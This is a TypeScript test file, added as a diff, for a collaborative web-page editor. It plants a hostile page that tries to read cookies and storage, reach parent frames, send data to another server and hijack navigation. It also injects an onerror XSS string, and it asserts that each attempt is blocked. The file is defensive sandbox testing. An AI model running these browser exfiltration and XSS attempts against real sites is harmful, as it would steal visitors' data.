@@ -1,0 +1,157 @@
+/** A hostile site in Chromium as people have it: what it tries, and that it gets nowhere. */
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { shown, waitForSign, withWorld, write } from '../support/editing.ts';
+
+/** [what is tried, JavaScript that throws, or resolves to what was got] */
+const ATTEMPTS: readonly (readonly [string, string])[] = [
+  ['read cookies', 'document.cookie'],
+  ['set a cookie', '((document.cookie = "a=1"), document.cookie)'],
+  ['local storage', 'localStorage.getItem("ensemble.user")'],
+  ['session storage', 'sessionStorage.getItem("ensemble.key")'],
+  [
+    'IndexedDB',
+    'new Promise((yes, no) => { const o = indexedDB.open("ensemble/evil"); o.onsuccess = yes; o.onerror = () => no(o.error); })',
+  ],
+  ['cache storage', 'caches.open("a")'],
+  ['a service worker', 'navigator.serviceWorker.register("/sw.js")'],
+  ['the parent document', 'parent === window ? Promise.reject("none") : parent.document.title'],
+  ['the top document', 'top === window ? Promise.reject("none") : top.document.title'],
+  ['fetch of our own address', 'fetch("/api").then((r) => r.text())'],
+  ['fetch of another server', 'fetch(ELSEWHERE).then((r) => r.text())'],
+  [
+    'a request with XMLHttpRequest',
+    'new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open("GET", "/api"); x.onload = () => yes(x.responseText); x.onerror = () => no("error"); x.send(); })',
+  ],
+  [
+    'a beacon',
+    'navigator.sendBeacon(ELSEWHERE, "x") ? Promise.reject("queued, and blocked") : Promise.reject("refused")',
+  ],
+  [
+    'a WebSocket to another site',
+    'new Promise((yes, no) => { const w = new WebSocket("ws://" + HOST + "/member/victim"); w.onopen = () => yes("open"); w.onerror = () => no("error"); })',
+  ],
+  [
+    'an event source',
+    'new Promise((yes, no) => { const e = new EventSource("/api"); e.onopen = () => yes("open"); e.onerror = () => no("error"); })',
+  ],
+  ['the microphone', 'navigator.mediaDevices.getUserMedia({ audio: true })'],
+  ['MIDI', 'navigator.requestMIDIAccess()'],
+  ['a serial port', 'navigator.serial.requestPort()'],
+  [
+    'the place on earth',
+    'new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))',
+  ],
+  [
+    'a frame of the editor',
+    'new Promise((yes, no) => { const f = document.createElement("iframe"); f.src = "/member/victim?edit"; f.onload = () => { try { yes(f.contentDocument.title); } catch (e) { no(e); } if (f.contentDocument === null) no("null"); }; document.body.append(f); })',
+  ],
+];
+
+function hostile(host: string, elsewhere: string): string {
+  const tries = ATTEMPTS.map(([name, code]) => `[${JSON.stringify(name)}, () => (${code})]`);
+  return `<!doctype html><html lang="en"><title>evil</title><ul id="got"></ul><p id="done"></p>
+<form id="form" action="${elsewhere}" method="post"><input name="a" value="1"></form>
+<script>
+const HOST = ${JSON.stringify(host)}, ELSEWHERE = ${JSON.stringify(elsewhere)};
+const attempts = [${tries.join(',\n')}];
+const late = () => new Promise((_, no) => setTimeout(() => no(new Error('no answer')), 3000));
+(async () => {
+  for (const [name, attempt] of attempts) {
+    try {
+      const got = await Promise.race([Promise.resolve().then(attempt), late()]);
+      const item = document.createElement('li');
+      item.textContent = name + ': ' + String(got);
+      document.getElementById('got').append(item);
+    } catch {}
+  }
+  try { document.getElementById('form').submit(); } catch {}
+  try { open(ELSEWHERE); } catch {}
+  try { if (top !== window) top.location.href = ELSEWHERE; } catch {}
+  try { if (parent !== window) parent.location.href = ELSEWHERE; } catch {}
+  for (const to of [parent, top]) to.postMessage({ ensemble: 'draw', html: 'forged' }, '*');
+  document.getElementById('done').textContent = 'tried everything';
+})();
+</script>`;
+}
+
+/** A server elsewhere that counts who comes. */
+async function withElsewhere(body: (address: string, visits: string[]) => Promise<void>) {
+  const visits: string[] = [];
+  const server = createServer((request, response) => {
+    visits.push(`${request.method} ${request.url}`);
+    response.setHeader('Access-Control-Allow-Origin', '*');
+    response.end('elsewhere');
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const address: AddressInfo | string | null = server.address();
+  if (address === null || typeof address === 'string') throw new Error('no port');
+  try {
+    await body(`http://127.0.0.1:${address.port}/`, visits);
+  } finally {
+    server.closeAllConnections();
+    server.close();
+  }
+}
+
+test('a hostile site gets nowhere, for its visitors and in the preview of those who edit it', async () => {
+  await withElsewhere(async (elsewhere, visits) => {
+    await withWorld({ isolated: true }, async ({ editor, chromium, url, server }) => {
+      const victim = await editor('victim', 'Victim');
+      await write(victim.page, '<p>precious</p>');
+      await waitForSign(victim.page, 'saved');
+      const evil = await editor('evil', 'Mallory');
+      await write(evil.page, hostile(new URL(server.url).host, elsewhere));
+      await waitForSign(evil.page, 'saved');
+
+      await shown(evil.page).getByText('tried everything').waitFor({ timeout: 60_000 });
+      assert.equal(
+        await shown(evil.page).locator('#got li').allTextContents(),
+        [],
+        'in the preview',
+      );
+      assert.is(evil.page.url(), url('/member/evil?edit'), 'the editor stays where it is');
+      assert.is(evil.context.pages().length, 1, 'no pop-up');
+
+      const visitor = await chromium.person();
+      await visitor.page.goto(url('/member/evil'));
+      await visitor.page.getByText('tried everything').waitFor({ timeout: 60_000 });
+      assert.equal(await visitor.page.locator('#got li').allTextContents(), [], 'for a visitor');
+      assert.is(visitor.page.url(), url('/member/evil'));
+      assert.is(visitor.context.pages().length, 1, 'no pop-up');
+      assert.equal(visits, [], 'nothing reached the other server');
+      assert.is(await victim.page.locator('.people li').count(), 1, 'nobody joined the other site');
+    });
+  });
+});
+
+test('what a site says to the editor is shown as text, however hostile, and only so much of it', async () => {
+  await withWorld({ isolated: true }, async ({ editor }) => {
+    const { page } = await editor('loud', 'Ada');
+    const shout = `
+      for (let i = 0; i < 1000; i += 1) console.error('<img src=x onerror=alert(1)> ' + i);
+      parent.postMessage({ ensemble: 'log', level: 'error', text: 7, line: 'x' }, '*');
+      parent.postMessage('nonsense', '*');
+      alert('hello');`;
+    await write(page, `<script>${shout}</script>`);
+    await page.locator('.console summary', { hasText: 'errors' }).click();
+    await page.locator('.log').getByText('<img src=x onerror=alert(1)> 0').waitFor();
+    assert.ok((await page.locator('.log li').count()) <= 100);
+    assert.is(await page.locator('.log img').count(), 0);
+  });
+});
+
+test('a script that never ends stops its preview, not the editor', async () => {
+  await withWorld({ isolated: true }, async ({ editor }) => {
+    const { page } = await editor('endless', 'Ada');
+    await write(page, '<p>before</p><script>while (true) {}</script>');
+    await page.waitForTimeout(1500);
+    await page.keyboard.press('Control+a');
+    await page.keyboard.insertText('<p>after</p>');
+    await waitForSign(page, 'saved');
+  });
+});
+
+test.run();
